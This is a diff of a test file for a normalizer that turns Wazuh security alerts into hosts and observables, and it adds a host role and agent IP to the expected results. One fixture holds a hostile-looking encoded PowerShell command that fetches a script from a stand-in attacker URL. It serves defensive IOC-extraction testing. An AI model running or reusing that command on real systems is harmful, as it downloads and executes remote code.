@@ -69,7 +69,7 @@ describe('wazuh source: normalize', () => {
       groups: ['syslog', 'sshd', 'authentication_failures'],
       mitre: { ids: ['T1110'], tactics: ['Credential Access'], techniques: ['Brute Force'] },
     });
-    expect(a.host).toEqual({ name: 'web-01', ip: '10.0.1.10', id: '001' });
+    expect(a.host).toEqual({ name: 'web-01', role: 'agent', ip: '10.0.1.10', id: '001' });
     expect(a.text).toEqual([{ field: 'full_log', value: sshFailure().full_log }]);
     expect(a.raw).toEqual(sshFailure());
   });
@@ -94,12 +94,14 @@ describe('wazuh source: normalize', () => {
       { type: 'ipv4', value: '185.220.101.4', role: 'src', context: 'data.srcip' },
       { type: 'user', value: 'admin', role: 'user', context: 'data.dstuser' },
       { type: 'host', value: 'web-01', role: 'host', context: 'agent.name' },
+      // The agent's own address links network alerts about its traffic to this host.
+      { type: 'ipv4', value: '10.0.1.10', role: 'host', context: 'agent.ip' },
     ]);
   });
 
   it('drops values that are not what their field promises', () => {
     const a = wazuh.normalize(sshFailure({ data: { srcip: 'not-an-ip', dstuser: '-', dstip: '2001:DB8::1' } }))!;
-    expect(a.observables.map((o) => `${o.type}:${o.value}`)).toEqual(['ipv6:2001:db8::1', 'host:web-01']);
+    expect(a.observables.map((o) => `${o.type}:${o.value}`)).toEqual(['ipv6:2001:db8::1', 'host:web-01', 'ipv4:10.0.1.10']);
   });
 
   it('takes file hashes and path from a syscheck (FIM) alert', () => {
@@ -162,14 +164,14 @@ describe('wazuh source: normalize', () => {
     ]);
     // The command line goes to the IOC extractor too.
     expect(a.text).toEqual([{ field: 'data.win.eventdata.commandLine', value: 'powershell -enc SQBFAFgA http://evil.example.com/a.ps1' }]);
-    expect(a.host).toEqual({ name: 'WS-0042', id: '004' });
+    expect(a.host).toEqual({ name: 'WS-0042', role: 'agent', id: '004' });
   });
 
   it('takes a web URL and hostname, and falls back to the manager name without an agent', () => {
     const r = sshFailure({ data: { url: 'http://shop.example.com/login.php?id=1', hostname: 'shop.example.com' }, full_log: undefined });
     delete r.agent;
     const a = wazuh.normalize(r)!;
-    expect(a.host).toEqual({ name: 'wazuh-manager' });
+    expect(a.host).toEqual({ name: 'wazuh-manager', role: 'agent' });
     expect(a.observables.map((o) => `${o.type}:${o.value}`)).toEqual([
       'domain:shop.example.com',
       'url:http://shop.example.com/login.php?id=1',
